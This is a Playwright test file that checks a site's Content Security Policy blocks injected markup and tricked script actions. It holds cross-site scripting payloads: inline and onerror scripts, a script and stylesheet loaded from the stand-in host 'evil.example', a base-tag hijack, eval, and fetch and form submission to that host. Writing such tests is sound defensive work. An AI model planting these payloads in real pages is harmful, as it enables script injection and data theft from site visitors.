import type { Page } from 'playwright-core';
import { open, stageOfFile } from 'platform/testing/visit';
import { watchPolicy } from './support/watch';

const evil = 'https://evil.example';

/** Markup that an attacker might add to a page, the directive that refuses it, and what that blocks. */
const written: [markup: string, directive: string, blocked: string][] = [
  ['<script>document.title = "stolen"</script>', 'script-src-elem', 'inline'],
  [`<script src="${evil}/x.js"></script>`, 'script-src-elem', `${evil}/x.js`],
  ['<img src="/none.png" onerror="document.title = \'stolen\'">', 'script-src-attr', 'inline'],
  ['<style>main { display: none }</style>', 'style-src-elem', 'inline'],
  ['<p style="position: fixed; inset: 0">', 'style-src-attr', 'inline'],
  [`<link rel="stylesheet" href="${evil}/x.css">`, 'style-src-elem', `${evil}/x.css`],
  [`<img src="${evil}/x.png">`, 'img-src', `${evil}/x.png`],
  ['<iframe src="/contact"></iframe>', 'frame-src', '/contact'],
  ['<object data="/contact"></object>', 'object-src', '/contact'],
  [`<base href="${evil}/">`, 'base-uri', evil],
];

/** Deeds that a script of the site could be tricked into, by the directive that refuses each. */
const done: [directive: string, deed: (elsewhere: string) => unknown][] = [
  ['require-trusted-types-for', () => (document.body.innerHTML = '<p>stolen</p>')],
  [
    'require-trusted-types-for',
    // In a task of its own: code that the debugger evaluates has all rights.
    () =>
      new Promise(requestAnimationFrame).then((): unknown => globalThis.eval('document.title = "stolen"')),
  ],
  ['trusted-types', () => globalThis.trustedTypes?.createPolicy('mine', { createScriptURL: String })],
  ['connect-src', (elsewhere) => fetch(elsewhere)],
  ['form-action', submitTo],
];

const stage = stageOfFile();
let page: Page;
let requestsElsewhere: string[];
beforeEach(async () => {
  const visitor = await stage.visitor();
  page = visitor.page;
  requestsElsewhere = [];
  await page.route(`${evil}/**`, async (route) => {
    requestsElsewhere.push(route.request().url());
    await route.abort();
  });
  await watchPolicy(visitor);
});

test('markup written into the HTML is refused, and has no effect', async () => {
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    const markup = written.map(([text]) => text).join('');
    await route.fulfill({ response, body: body.replace('<body>', `<body>${markup}`) });
  });
  const reported = written.map(([, directive, blocked]) => violation(directive, blocked));
  await open(page, '/');
  await Promise.all(reported);
  expect(await page.getByRole('main').isVisible()).toBe(true);
  expect(await page.evaluate(() => document.baseURI)).toBe(`${stage.url}/`);
  await expectUnharmed();
});

test('a script of the site cannot be tricked into what the policy refuses', async () => {
  await open(page, '/');
  const added = page.evaluate(() => {
    document.head.append(Object.assign(document.createElement('script'), { src: '/upload/x.js' }));
  });
  await expect(added).rejects.toThrow('Scripts do not come from');
  for (const [directive, deed] of done) {
    const reported = violation(directive);
    await page.evaluate(deed, evil).catch(() => undefined);
    await reported;
  }
  expect(await page.getByText('stolen').count()).toBe(0);
  await expectUnharmed();
});

async function expectUnharmed() {
  expect(requestsElsewhere).toEqual([]);
  expect(await page.title()).not.toBe('stolen');
}

/** Waits for the browser to report, in a task of its own, that a directive was violated by an address or 'inline'. */
function violation(directive: string, blocked = '') {
  return page.waitForEvent('console', (message) => {
    const [, by] = message.text().split(`Policy violated: ${directive} by `);
    return by?.includes(blocked) ?? false;
  });
}

function submitTo(address: string) {
  const form = document.createElement('form');
  form.action = address;
  document.body.append(form);
  form.submit();
}
